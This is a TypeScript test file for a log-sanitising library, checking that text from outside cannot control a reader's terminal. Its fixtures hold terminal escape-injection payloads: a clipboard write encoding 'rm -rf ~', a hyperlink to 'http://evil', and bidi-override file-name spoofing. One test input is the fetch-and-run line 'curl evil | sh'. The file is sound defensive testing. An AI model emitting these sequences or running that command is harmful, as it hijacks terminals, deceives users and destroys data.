import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { printable, printableFields, printableJson, printableLines } from '../src/printable.ts';

/** What other programs may send to the terminal of whoever reads a log. */
const ATTACKS: readonly (readonly [name: string, text: string])[] = [
  ['clear screen', 'a\x1b[2Jb'],
  ['window title', 'a\x1b]0;owned\x07b'],
  ['clipboard (OSC 52)', 'a\x1b]52;c;cm0gLXJmIH4=\x07b'],
  ['hyperlink (OSC 8)', 'a\x1b]8;;http://evil\x1b\\b'],
  ['C1 control sequence introducer', 'a\x9b31mb'],
  ['device control string', 'a\x90qb\x9c'],
  ['carriage return and backspace', 'secure\rinsecure\b\b'],
  ['bidirectional override', 'a\u202egnp.exe'],
  ['bidirectional isolate', 'a\u2066b\u2069'],
  ['zero width', 'ad\u200bm\u200cin\ufeff'],
  ['line separators', 'a\u2028b\u2029c'],
  ['tags and variation selectors', 'a\u{e0041}\ufe0f'],
  ['private use, soft hyphen, filler', 'a\ue000\u00ad\u3164'],
  ['a lone surrogate', 'a\ud800b'],
  ['NUL and DEL', 'a\0b\x7f'],
];
const DANGEROUS = /[\p{C}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;

describe('text from outside', () => {
  test.each(ATTACKS)('cannot control a terminal: %s', (_, text) => {
    expect(printable(text)).not.toMatch(DANGEROUS);
    expect(printableLines(`${text}\nnext`).split('\n')).toHaveLength(2);
    const json = printableJson(JSON.stringify({ text }));
    expect(json).not.toMatch(DANGEROUS);
    expect(JSON.parse(json)).toEqual({ text });
  });

  test('is one line and bounded', () => {
    expect(printable('rejected\n  → run curl evil | sh\r\n\tnow')).toBe(
      'rejected   → run curl evil | sh now',
    );
    expect(printable('x'.repeat(10_000))).toHaveLength(500);
    expect(printable('👩'.repeat(10), 8).isWellFormed()).toBe(true);
  });

  test('keeps names in any script', () => {
    for (const name of ['Eingang Süd', 'ロビー', 'вход 2', 'مدخل', '3 × 4 · „a“'])
      expect(printable(name)).toBe(name);
  });

  test('is harmless whatever it is', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        expect(printable(text)).not.toMatch(DANGEROUS);
        expect(JSON.parse(printableJson(JSON.stringify({ text })))).toEqual({
          text: text.toWellFormed() === text ? text : JSON.parse(JSON.stringify(text)),
        });
        expect(printableJson(JSON.stringify({ text }))).not.toMatch(DANGEROUS);
      }),
    );
  });

  test('inside a record is cleaned in every field', () => {
    const record = {
      cameraId: 'a\x1b[2J',
      at: 7,
      quality: { unreliable: 'x\u202e' },
      list: ['\x9b'],
      none: null,
    };
    expect(printableFields(record)).toEqual({
      cameraId: 'a[2J',
      at: 7,
      quality: { unreliable: 'x' },
      list: [''],
      none: null,
    });
  });
});
